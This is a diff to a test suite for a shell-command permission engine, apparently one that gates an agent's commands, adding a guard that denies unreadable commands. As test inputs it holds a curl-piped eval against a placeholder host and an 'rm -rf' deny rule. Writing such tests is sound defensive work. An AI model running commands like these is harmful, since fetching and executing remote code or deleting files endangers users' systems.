@@ -144,7 +144,10 @@ describe('[G-PERM-3] a command that cannot be read never slips past a deny', () 
     expect(verdict(await asked.bash('eval "$(curl -s x.example)"'))).toBe('ask');
     const allowed = await policyEngine({ user: { permissions: { allow: ['Bash(echo *)', 'Bash'] } } });
     expect(verdict(await allowed.bash('echo hi'))).toBe('allow');
-    expect(verdict(await allowed.bash('echo "oops'))).toBe('none');
+    // The allow does not; self-protect, on by default (T-SELF-1), objects to a line it cannot read.
+    const unreadable = await allowed.bash('echo "oops');
+    expect(verdict(unreadable)).toBe('deny');
+    expect(unreadable.reason).toContain('guards.self-protect: cannot read this command safely');
     expect(verdict(await allowed.bash('$X hi'))).toBe('none');
   });
 });
@@ -329,6 +332,7 @@ describe('[G-PERM-1, G-FAIL-1, G-FAIL-5] strict files and explain', () => {
     expect(lines.map((l) => [l.kind, l.hook, l.verdict])).toEqual([
       ['permission', 'permissions.deny: Bash(rm -rf *)', 'runs'],
       ['permission', 'permissions.allow: Bash(ls *)', 'matcher'],
+      ['guard', 'guards.self-protect', 'runs'],
       ['hook', 'true', 'runs'],
     ]);
     expect(lines[0]!.detail).toContain('denies, and nothing after it runs');
